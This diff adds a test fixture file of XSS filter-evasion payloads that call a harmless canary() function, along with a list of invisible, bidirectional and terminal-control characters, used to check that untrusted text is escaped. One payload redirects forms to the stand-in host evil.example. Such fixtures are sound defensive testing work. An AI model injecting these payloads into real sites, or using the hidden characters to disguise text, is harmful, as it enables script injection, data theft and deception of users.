@@ -1,0 +1,50 @@
+// Texts that want to run, hide or deceive: what people and devices may send, for every test that prints text from outside.
+
+/** Each would call `canary()` where it is not escaped (OWASP XSS filter evasion; PortSwigger cheat sheet). */
+export const scriptPayloads = [
+  '<script>canary()</script>',
+  '"><script>canary()</script>',
+  "'><script>canary()</script>",
+  '</title><script>canary()</script>',
+  '</textarea><script>canary()</script>',
+  '</style><script>canary()</script>',
+  '--><script>canary()</script>',
+  ']]><script>canary()</script>',
+  '<img src=x onerror=canary()>',
+  '"><img src=x onerror=canary()>',
+  '<svg onload=canary()>',
+  '<svg><animate onbegin=canary() attributeName=x dur=1s>',
+  '" autofocus onfocus=canary() x="',
+  "' onmouseover=canary() style='position:fixed;inset:0' x='",
+  '<iframe srcdoc="<script>parent.canary()</script>">',
+  '<details open ontoggle=canary()>',
+  '<a href="javascript:canary()" autofocus onfocus=canary()>x</a>',
+  '<meta http-equiv="refresh" content="0;url=javascript:canary()">',
+  '<base href="https://evil.example/"><form action="https://evil.example/"><button autofocus onfocus=canary()>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=canary()>',
+] as const;
+
+/** Nothing of these may reach the eye: directions, tags, controls, a terminal's commands. */
+export const unseenSigns = [
+  '\u0000',
+  '\u0007',
+  '\u001b[31m',
+  '\u009b31m',
+  '\u200b',
+  '\u200e',
+  '\u200f',
+  '\u061c',
+  '\u202a',
+  '\u202b',
+  '\u202d',
+  '\u202e',
+  '\u2066',
+  '\u2067',
+  '\u2069',
+  '\u2028',
+  '\u2029',
+  '\ufeff',
+  '\u00ad',
+  '\u{e0001}',
+  '\u{e007f}',
+] as const;
